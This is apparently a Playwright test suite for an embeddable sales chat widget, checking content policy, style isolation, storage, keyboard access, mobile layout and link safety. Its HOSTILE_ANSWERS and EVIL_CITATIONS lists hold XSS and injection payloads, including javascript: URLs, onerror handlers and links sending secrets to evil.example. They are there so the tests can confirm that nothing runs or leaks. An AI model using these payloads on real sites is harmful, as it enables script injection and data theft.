"""The widget as a guest on other people's pages: policies, styles, storage, keyboard, phones, hostile text."""

from __future__ import annotations

import pytest
from playwright.async_api import Browser, BrowserContext, Page, expect

from tests.widget.harness import Chat, Servers
from tests.widget.samples import PRICES
from tests.widget.standin import Standin

pytest_plugins = ("tests.widget.fixtures",)
pytestmark = [pytest.mark.asyncio(loop_scope="session"), pytest.mark.browser]

STORED = """async () => ({cookies: document.cookie, local: {...localStorage}, session: {...sessionStorage},
    databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length})"""
NOTHING = {"cookies": "", "local": {}, "session": {}, "databases": 0, "caches": 0}


@pytest.mark.parametrize("path", ["/strict", "/nonce-only"])
async def test_a_strict_policy_is_kept(chat: Chat, path: str) -> None:
    await chat.open(path)
    await chat.ask("Price?")
    await chat.answered()
    await chat.chips.first.click()
    await expect(chat.page.get_by_text(PRICES["quote"])).to_be_visible()
    width = await chat.panel.evaluate("(panel) => panel.offsetWidth")
    assert width == 400  # the style sheets apply
    assert await chat.page.evaluate("violations") == []


async def test_hostile_styles_change_nothing(chat: Chat) -> None:
    looks: list[object] = []
    for path in ("/", "/hostile"):
        await chat.open(path)
        if path == "/":
            await chat.ask("Price?")
        await chat.answered()
        looks.append(await chat.page.evaluate(LOOK))
        await chat.field.press("Escape")
    assert looks[0] == looks[1]


LOOK = """() => {
  const root = document.querySelector("sales-agent").shadowRoot;
  const names = [".dock", ".dock button", ".panel", "header h2", ".mine", ".prose p", ".chip", "textarea", ".send",
                 ".disclosure"];
  return names.map((name) => {
    const node = root.querySelector(name), box = node.getBoundingClientRect(), style = getComputedStyle(node);
    return [name, ...[box.x, box.y, box.width, box.height].map(Math.round), style.color, style.backgroundColor,
            style.fontSize, style.fontStyle, style.letterSpacing, style.textTransform, style.opacity];
  });
}"""


async def test_a_second_inclusion_changes_nothing(chat: Chat) -> None:
    await chat.open("/twice")
    await expect(chat.page.locator("sales-agent")).to_have_count(1)


async def test_early_calls_events_and_destroy(chat: Chat) -> None:
    await chat.visit("/queue")
    await expect(chat.panel).to_be_visible()
    assert await chat.page.evaluate("heard") == ["open"]
    assert await chat.page.evaluate(STORED) == NOTHING  # the page opened it, not the visitor
    await chat.page.evaluate("addEventListener('sales-agent:close', () => heard.push('closed'))")
    await chat.page.evaluate("SalesAgent('toggle')")
    await expect(chat.panel).to_be_hidden()
    assert await chat.page.evaluate("heard") == ["open", "closed"]
    await chat.page.evaluate("SalesAgent('destroy')")
    await expect(chat.page.locator("sales-agent")).to_have_count(0)
    assert await chat.page.evaluate("window.SalesAgent === undefined")
    await chat.page.evaluate(INCLUDE, f"{chat.servers.api}/widget.js")
    await expect(chat.launcher).to_be_visible()


INCLUDE = """(src) => { const script = document.createElement("script");
  Object.assign(script, {src}).dataset.key = "pk_test"; document.body.append(script); }"""


async def test_nothing_is_stored_or_fetched_before_the_visitor_acts(
    chat: Chat, context: BrowserContext
) -> None:
    requests: list[str] = []
    chat.page.on("request", lambda request: requests.append(request.url))
    await chat.visit()
    await expect(chat.launcher).to_be_visible()
    await chat.page.mouse.wheel(0, 900)
    ours = [url.split("?")[0] for url in requests if url.startswith(chat.servers.api)]
    assert ours == [f"{chat.servers.api}/widget.js", f"{chat.servers.api}/v1/widget/config"]
    async with chat.page.expect_response("**/widget/en-*.json"):
        await chat.launcher.hover()
    assert await chat.page.evaluate(STORED) == NOTHING
    assert await context.cookies() == []
    await chat.launcher.click()
    await expect(chat.panel).to_be_visible()
    stored = await chat.page.evaluate(STORED)
    assert stored == NOTHING | {"session": stored["session"], "local": stored["local"]}
    assert [*stored["session"], *stored["local"]] == ["sales-agent:pk_test", "sales-agent:pk_test:visitor"]


async def test_closed_it_takes_only_the_launchers_box(chat: Chat) -> None:
    await chat.open()
    await chat.field.press("Escape")
    await expect(chat.panel).to_be_hidden()
    covered = await chat.page.evaluate(
        """() => { const seen = []; for (let x = 4; x < innerWidth; x += 16) for (let y = 4; y < innerHeight; y += 16)
           if (document.elementFromPoint(x, y)?.localName === "sales-agent") seen.push([x, y]); return seen; }"""
    )
    box = await chat.launcher.bounding_box()
    assert box and covered
    for x, y in covered:
        assert box["x"] <= x <= box["x"] + box["width"] and box["y"] <= y <= box["y"] + box["height"]


async def test_keyboard(chat: Chat) -> None:
    await chat.visit()
    await chat.page.locator("#below").focus()
    await chat.page.keyboard.press("Tab")
    await expect(chat.launcher).to_be_focused()
    await expect(chat.launcher).to_have_attribute("aria-expanded", "false")
    await chat.page.keyboard.press("Enter")
    await expect(chat.field).to_be_focused()
    await expect(chat.launcher).to_have_attribute("aria-expanded", "true")
    await expect(chat.launcher).to_have_accessible_name("Close chat")

    visited = [await focused(chat.page)]
    for _ in range(7):
        await chat.page.keyboard.press("Shift+Tab")
        visited.append(await focused(chat.page))
    asked = ["Where is our data stored?", "Do you integrate with HubSpot?", "What does the Team plan cost?"]
    assert visited == ["Your message", *asked, "Conversation", "Close chat", "More options", "Close chat"]

    await chat.field.focus()
    await chat.page.keyboard.press("Escape")
    await expect(chat.panel).to_be_hidden()
    await expect(chat.launcher).to_be_focused()
    assert await chat.page.get_by_role("log").count() == 0  # nothing of it is left in the tree


async def focused(page: Page) -> str:
    return await page.evaluate(
        """() => { const node = document.activeElement.shadowRoot?.activeElement ?? document.activeElement;
           return node.ariaLabel ?? node.labels?.[0]?.textContent ?? node.textContent; }"""
    )


@pytest.mark.parametrize("width", [320, 375])
async def test_on_a_phone_it_is_modal_and_fits(
    browser: Browser, servers: Servers, standin: Standin, width: int
) -> None:
    context = await browser.new_context(
        viewport={"width": width, "height": 640}, is_mobile=True, has_touch=True
    )
    try:
        chat = Chat(await context.new_page(), servers)
        await chat.visit()
        await chat.launcher.tap()
        await chat.settled()
        assert await chat.panel.evaluate("(panel) => panel.matches(':modal')")
        assert await chat.panel.bounding_box() == {"x": 0, "y": 0, "width": width, "height": 640}
        await expect(chat.field).not_to_be_focused()
        table = "| Plan | Price | Seats | Support |\n|---|---|---|---|\n| Team | 24 EUR | unlimited | by telephone |"
        standin.plan.answers["Plans?"] = (f"{table}\n\n`{'x' * 90}` [1]", [PRICES])
        await chat.ask("Plans?")
        await chat.answered()
        assert await chat.page.evaluate(OVERFLOWING) == []
        assert await chat.page.evaluate(SMALL_TARGETS) == []
        assert await chat.field.evaluate("(field) => parseFloat(getComputedStyle(field).fontSize)") >= 16
        await chat.page.get_by_role("dialog").get_by_role("button", name="Close chat").tap()
        await expect(chat.panel).to_be_hidden()
        await expect(chat.launcher).to_be_focused()
    finally:
        await context.close()


OVERFLOWING = """() => { const root = document.querySelector("sales-agent").shadowRoot;
  return [...root.querySelectorAll(".panel, .panel header, .log, .composer, .theirs, .prose, .sources")]
    .filter((node) => node.scrollWidth > node.clientWidth + 1).map((node) => node.className); }"""
SMALL_TARGETS = """() => { const root = document.querySelector("sales-agent").shadowRoot;
  return [...root.querySelectorAll(".panel button:not(.chip), .panel textarea, .panel summary, .panel .title")]
    .filter((node) => node.offsetWidth < 24 || node.offsetHeight < 24).map((node) => node.outerHTML); }"""


async def test_right_to_left_pages_have_it_on_the_left(chat: Chat) -> None:
    await chat.open("/rtl")
    boxes = [await chat.launcher.bounding_box(), await chat.panel.bounding_box()]
    assert [box and box["x"] for box in boxes] == [20, 20]


COLORS = "(node) => [getComputedStyle(node).backgroundColor, getComputedStyle(node).color]"


async def test_a_light_accent_gets_dark_text(chat: Chat) -> None:
    await chat.open("/head")
    colors = await chat.launcher.evaluate(COLORS)
    assert colors == ["rgb(255, 216, 77)", "rgb(0, 0, 0)"]


async def test_dark_and_still_when_the_visitor_wants_it(
    browser: Browser, servers: Servers, standin: Standin
) -> None:
    context = await browser.new_context(color_scheme="dark", reduced_motion="reduce")
    try:
        chat = await Chat(await context.new_page(), servers).open()
        standin.plan.holds["Price?"] = 2
        await chat.ask("Price?")
        dots = chat.page.locator("sales-agent .working i").first
        assert await dots.evaluate("(node) => getComputedStyle(node).animationName") == "none"
        style = await chat.panel.evaluate(COLORS)
        assert style == ["rgb(22, 25, 31)", "rgb(236, 238, 242)"]
    finally:
        await context.close()


HOSTILE_ANSWERS = [
    "<script>window.pwned=1</script><img src=x onerror='window.pwned=1'>",
    "<svg onload=window.pwned=1><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "![logo](https://evil.example/leak.png?q=secret) ![x](javascript:pwned=1)",
    "[click](javascript:window.pwned=1) [click](JaVaScRiPt&#58;pwned=1) [a](java\tscript:pwned=1)",
    "[data](data:text/html,<script>pwned=1</script>) [d](data:text/html,x)",
    "[v](vbscript:x) [f](file:///etc/passwd) [b](blob:x)",
    "[prices](https://evil.example/pricing) https://evil.example/?q=secret <https://evil.example/>",
    "[user](https://northwind.example@evil.example/pricing) [proto](//evil.example/x)",
    "[mail](mailto:a@b.example?bcc=evil@evil.example&body=secret)",
    "[1](javascript:pwned=1) [\"onclick=\"pwned=1](https://evil.example/\" onclick=\"pwned=1)",
    "```html\n<img src=x onerror=pwned=1>\n```\n`<b onmouseover=pwned=1>`",
    "| <img src=x onerror=pwned=1> | b |\n|---|---|\n| [x](javascript:pwned=1) | <script>pwned=1</script> |",
    "**<img src=x onerror=pwned=1>** _<svg/onload=pwned=1>_ # <h1 onclick=pwned=1>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x><base href=https://evil.example/>",
    "{{constructor.constructor('pwned=1')()}} ${pwned=1} <a href='javascript:pwned=1'>x</a>",
    "*" * 3000 + "[" * 3000 + "`" * 3000 + "_a" * 1500 + "(" * 2000,
]  # fmt: skip
EVIL_CITATIONS = [
    {"marker": 1, "url": "javascript:pwned=1", "title": "<img src=x onerror=pwned=1>", "quote": "<script>pwned=1"},
    {"marker": 2, "url": "data:text/html,x", "title": "\"><svg onload=pwned=1>", "quote": ""},
]  # fmt: skip
INSIDE = """() => { const log = document.querySelector("sales-agent").shadowRoot.querySelector(".log");
  return { pwned: window.pwned ?? null,
    elements: [...new Set([...log.querySelectorAll(".theirs *")].map((node) => node.localName))],
    handlers: [...log.querySelectorAll("*")].flatMap((node) => node.getAttributeNames())
      .filter((name) => /^on|style|src/.test(name)),
    links: [...log.querySelectorAll("a")].map((node) => node.href) }; }"""
PLAIN = set(
    "div span p br strong em code pre ul ol li blockquote button a section h3 table thead tbody".split()
)
PLAIN |= {"tr", "th", "td", "details", "summary", "svg", "path", "bdi"}


async def test_hostile_answers_stay_text(chat: Chat, standin: Standin) -> None:
    leaks: list[str] = []
    known = (chat.servers.api, chat.servers.site)
    chat.page.on(
        "request", lambda request: None if request.url.startswith(known) else leaks.append(request.url)
    )
    await chat.open()
    for number, text in enumerate(HOSTILE_ANSWERS, 1):
        standin.plan.answers[f"{number}"] = (text + " [1] [2]", EVIL_CITATIONS)
        await chat.ask(f"{number}")
        await chat.answered(number)
    found = await chat.page.evaluate(INSIDE)
    assert found["pwned"] is None and found["handlers"] == [] and leaks == []
    assert set(found["elements"]) <= PLAIN
    outside = {link for link in found["links"] if not link.startswith(chat.servers.site)}
    assert outside == {"mailto:a@b.example"}


async def test_links_lead_to_cited_pages_and_this_site_only(chat: Chat, standin: Standin) -> None:
    cited, here = "[cited](https://northwind.example/pricing#team)", "[here](/faq)"
    text = (
        f"{cited}, {here}, [mail](mailto:a@b.example), [call](tel:+49123), [no](https://other.example/) [1]"
    )
    standin.plan.answers["Links?"] = (text, [PRICES])
    await chat.open()
    await chat.ask("Links?")
    assert await chat.answered() == "cited, here, mail, call, no 1"
    links = chat.answers.get_by_role("link")
    hrefs = await links.evaluate_all("(links) => links.map((link) => [link.href, link.target, link.rel])")
    expected = [
        "https://northwind.example/pricing#team",
        f"{chat.servers.site}/faq",
        "mailto:a@b.example",
        "tel:+49123",
    ]
    assert hrefs == [[href, "_blank", "noopener"] for href in expected]
